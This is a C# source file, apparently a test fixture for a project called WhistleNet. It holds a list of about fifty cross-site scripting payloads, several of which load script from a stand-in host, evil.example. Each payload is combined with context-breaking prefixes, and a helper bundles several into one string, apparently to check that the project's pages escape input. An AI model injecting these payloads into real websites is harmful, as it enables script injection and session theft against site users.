namespace WhistleNet;

/// <summary>Texts that a browser would run if one of our pages took them for markup.</summary>
public static class Payloads
{
    private static readonly string[] Ways =
    [
        "<script>alert(1)</script>", "<script src=//evil.example></script>", "<script type=module>alert(1)</script>", "<img src=x onerror=alert(1)>", "<img src=x onerror='alert(1)'>", "<image href=x onerror=alert(1)>", "<svg onload=alert(1)>",
        "<svg/onload=alert(1)>", "<svg><script>alert(1)</script>", "<svg><animate onbegin=alert(1)>", "<svg><a xlink:href=javascript:alert(1)>", "<math href=javascript:alert(1)>x", "<body onload=alert(1)>", "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>parent.alert(1)</script>'>", "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<a href=javascript:alert(1) autofocus onfocus=alert(1)>x</a>", "<input autofocus onfocus=alert(1)>", "<details open ontoggle=alert(1)>",
        "<video src=x onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<video><source onerror=alert(1)>", "<marquee onstart=alert(1)>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>", "<keygen autofocus onfocus=alert(1)>",
        "<style>@import '//evil.example'</style>", "<style onload=alert(1)></style>", "<link rel=stylesheet href=//evil.example onload=alert(1)>", "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>", "<base href=//evil.example/>", "<form action=javascript:alert(1)><button>",
        "<template><script>alert(1)</script></template>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>", "<x onpointerenter=alert(1) style=position:fixed;inset:0>", "<p style=background:url(javascript:alert(1))>", "<table background=javascript:alert(1)>", "<b onclick=alert(1) accesskey=x>x",
        "onerror=alert(1) x=", "javascript:alert(1)", "data:text/html,<script>alert(1)</script>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}", "\\u003cimg src=x onerror=alert(1)\\u003e", "&lt;img src=x onerror=alert(1)&gt;", "%3Cimg src=x onerror=alert(1)%3E",
        "＜img src=x onerror=alert(1)＞", "<ſcript>alert(1)</ſcript>", "<scr\u200bipt>alert(1)</script>", "<<script>alert(1)//<</script>", "<img src=x:x onerror\u00a0=alert(1)>",
    ];

    private static readonly string[] Before = ["", "\">", "'>", "</script>", "</title></textarea>", "-->]]>"];

    /// <summary>Each way in with each ending of what it might stand in.</summary>
    public static IReadOnlyList<string> All { get; } = [.. Before.SelectMany(b => Ways.Select(w => b + w))];

    /// <summary>So many of them in one text, beginning with the one at <paramref name="from"/>.</summary>
    public static string Bundle(int from, int count = 8) => string.Concat(Enumerable.Range(from, count).Select(n => All[n % All.Count]));
}
